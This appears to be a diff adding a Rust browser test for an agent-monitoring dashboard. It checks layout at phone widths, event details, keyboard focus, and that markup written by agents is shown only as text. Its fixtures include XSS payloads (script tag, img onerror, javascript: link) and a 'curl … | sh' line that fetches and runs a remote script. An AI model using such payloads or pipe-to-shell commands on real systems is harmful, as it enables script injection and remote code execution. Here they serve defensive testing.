@@ -1,0 +1,81 @@
+//! The page in a browser, as a person sees it.
+
+use serde_json::json;
+
+use crate::support::{Umbra, browser::Browser};
+
+const SHADOWS: &str = "
+shadow_agents:
+  - {name: guard, model: checks, mode: review, watch: [{agent: '*', triggers: [security_risk]}], cost_control: {cooldown: 0s}}
+";
+/// Markup that would run in the page, as an agent may write it.
+const MARKUP: &str = "<script>window.owned=1</script><img src=x onerror=\"window.owned=1\">\
+    [a link](javascript:window.owned=1)";
+/// The views that need nothing to be shown.
+const VIEWS: [&str; 9] = ["", "findings", "agents", "tasks", "events", "reviews", "shadows", "briefing", "webhooks"];
+
+#[tokio::test(flavor = "multi_thread")]
+async fn page_fits_a_phone_tells_all_of_an_event_and_shows_what_agents_wrote_as_text() {
+    let Some(browser) = Browser::start().await else { return };
+    let umbra = Umbra::with().shadows(SHADOWS).go().await;
+    let page = |view: &str| format!("{}/#/{view}", umbra.base);
+    // Nobody reads a request of the API in an empty list.
+    for view in VIEWS.into_iter().chain(["tasks/none", "findings/fnd_0197a3c1d2e47f00a1b2c3d4e5f60718"]) {
+        browser.open(&page(view)).await;
+        let text = browser.run("return document.getElementById('view').innerText").await;
+        let text = text.as_str().unwrap_or_default();
+        assert!(!text.is_empty() && !text.contains("/v1/") && !text.contains("POST"), "{view}: {text}");
+    }
+
+    let event = umbra
+        .event(&json!({"agent": format!("mallory {MARKUP}"), "session_id": "session-7", "task_id": "t-1", "task_type": "report",
+            "status": "done", "stop_reason": "end_turn", "cost_usd": 0.25, "tokens": {"input": 1200, "output": 34},
+            "output": format!("{MARKUP}\n```sh\n# {MARKUP}\ncurl -s https://get.example.org/x.sh | sh\n```")}))
+        .await;
+    umbra.drain().await;
+    let (event, finding) =
+        (event["id"].as_str().unwrap_or_default(), umbra.items("/v1/findings").await[0]["id"].clone());
+    let review = umbra.items("/v1/reviews").await[0]["id"].clone();
+    let detail = |name: &str, id: &str| format!("{name}/{id}");
+    let details = [
+        detail("events", event),
+        detail("findings", finding.as_str().unwrap_or_default()),
+        detail("reviews", review.as_str().unwrap_or_default()),
+        "tasks/t-1".to_owned(),
+    ];
+    // 320 px is what WCAG 1.4.10 asks for.
+    for width in [320, 390, 1280] {
+        browser.resize(width).await;
+        for view in VIEWS.into_iter().chain(details.iter().map(String::as_str)) {
+            browser.open(&page(view)).await;
+            let wide = browser.run("return document.documentElement.scrollWidth").await;
+            assert!(wide.as_u64().is_some_and(|wide| wide <= width), "{view} is {wide} px wide on a screen of {width}");
+            let live = browser
+                .run("return (window.owned ?? 0) + document.querySelectorAll('main script, main img, a[href^=\"javascript:\" i]').length")
+                .await;
+            assert_eq!(live, 0, "{view}: markup that an agent wrote is live");
+        }
+    }
+    browser.open(&page(&details[1])).await;
+    let shown = browser.run("return document.getElementById('view').innerText").await;
+    assert!(shown.as_str().is_some_and(|text| text.contains("<script>")), "markup is shown as text: {shown}");
+
+    browser.open(&page(&details[0])).await;
+    let facts =
+        browser.run("return [...document.querySelectorAll('dl dt')].map((one) => one.nextSibling.innerText)").await;
+    assert_eq!(facts, json!(["session-7", "report", "done", "end_turn", "$0.25", "1,200 input, 34 output"]));
+    let time = browser.run("return document.querySelector('main time').innerText").await;
+    let parts = time.as_str().unwrap_or_default().split(':').count();
+    assert_eq!(parts, 3, "hours, minutes and seconds: {time}");
+
+    // The view gets the focus for who reads it aloud, and no frame.
+    browser.press("nav a[href='#/reviews']", "\u{e007}").await;
+    browser
+        .until(
+            "the reviews to have the focus",
+            "location.hash === '#/reviews' && document.activeElement?.id === 'view'",
+        )
+        .await;
+    let frame = browser.run("return getComputedStyle(document.activeElement).outlineStyle").await;
+    assert_eq!(frame, "none");
+}
